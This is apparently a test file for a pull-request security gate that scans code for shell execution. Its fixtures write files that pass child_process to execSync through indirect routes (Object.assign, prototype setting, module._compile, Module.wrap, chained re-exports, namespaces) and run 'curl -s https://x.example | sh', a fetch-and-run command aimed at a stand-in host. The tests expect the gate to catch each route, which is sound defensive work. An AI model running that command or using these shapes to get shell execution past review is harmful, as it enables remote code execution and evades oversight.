import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, put, scanAnnotations } from "./pr";

// A module's members copied into another object (`Object.assign(t, cp)`, a prototype set, descriptors copied, a copy
// under keys chosen at run time) and Node's CommonJS module objects driven by hand (`module.constructor`,
// `module._compile`, the loader's module wrapper), `export * as` across three files, a module pushed to an array and a
// nested TypeScript namespace (compiled by esbuild). Each ran under Node 20 (a process started) and passed the gate
// before (the Action exited 0).

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";
const CODE = `require('child_process').execSync('${CMD}')`;

describe("a module's members copied into another object fail the gate", () => {
  it("scan/shell-command: `Object.assign(t, cp)`, `Object.assign(K.prototype, cp)`, `Reflect.setPrototypeOf`, copied descriptors and a `for … in` copy fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/assign.js", `const cp = require("child_process");\nconst t = {};\nObject.assign(t, cp);\nt.execSync("${CMD}");\nclass K {}\nObject.assign(K.prototype, cp);\nnew K().execSync("${CMD}");\n`);
      put(dir, "agent/proto.js", `const cp = require("child_process");\nconst t = { a: 1 };\nReflect.setPrototypeOf(t, cp);\nt.execSync("${CMD}");\nconst d = Object.create(null, Object.getOwnPropertyDescriptors(cp));\nd.execSync("${CMD}");\n`);
      put(dir, "agent/copy.js", `const cp = require("child_process");\nconst t = {};\nfor (const k in cp) t[k] = cp[k];\nt.execSync("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/assign.js 4 1", "scan/shell-command agent/assign.js 7 1", "scan/shell-command agent/copy.js 3 28", "scan/shell-command agent/proto.js 4 1", "scan/shell-command agent/proto.js 6 1"]);
  });

  it("scan/shell-command and scan/dynamic-code: `module.constructor`'s `_compile`, `module._compile` and `Module.wrap` replaced fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/compile.js", `const M = module.constructor;\nnew M("x")._compile("${CODE}", __dirname + "/x.js");\nmodule._compile("${CODE}", __filename);\n`);
      put(dir, "agent/wrap.js", `const M = module.constructor;\nM.wrap = (s) => "(function (exports, require) { ${CODE}; })";\nrequire("./h");\n`);
      put(dir, "agent/h.js", `module.exports = {};\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/dynamic-code agent/wrap.js 2 1", "scan/shell-command agent/compile.js 2 1", "scan/shell-command agent/compile.js 3 1"]);
  });

  it("scan/shell-command: `export * as` across three files, a module pushed to an array and a nested TypeScript namespace fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/a.mjs", `export * from "child_process";\n`);
      put(dir, "agent/b.mjs", `export * as sh from "./a.mjs";\n`);
      put(dir, "agent/c.mjs", `export { sh as tools } from "./b.mjs";\n`);
      put(dir, "agent/run.mjs", `import { tools } from "./c.mjs";\ntools.execSync("${CMD}");\n`);
      put(dir, "agent/push.js", `const cp = require("child_process");\nconst a = [];\na.push(cp);\na[0].execSync("${CMD}");\n`);
      put(dir, "agent/ns.ts", `import * as cp from "child_process";\nnamespace N { export namespace M { export import X = cp; } }\nN.M.X.execSync("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/ns.ts 3 1", "scan/shell-command agent/push.js 4 1", "scan/shell-command agent/run.mjs 2 1"]);
  });

  it("passes: the same shapes over `path`, and another object's `constructor`, `_compile` and `wrap`", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/clean.js", `const path = require("path");\nconst t = {};\nObject.assign(t, path);\nt.join("a");\nfor (const k in path) t[k] = path[k];\nReflect.setPrototypeOf(t, path);\nconst K = thing.constructor;\nnew K("x")._compile("a");\nconst w = {};\nw.wrap = (s) => s;\n`);
    });
    const r = await gate(api, pr);
    expect(scanAnnotations(r.commands)).toEqual([]);
    expect(r.code).toBe(0);
  });
});
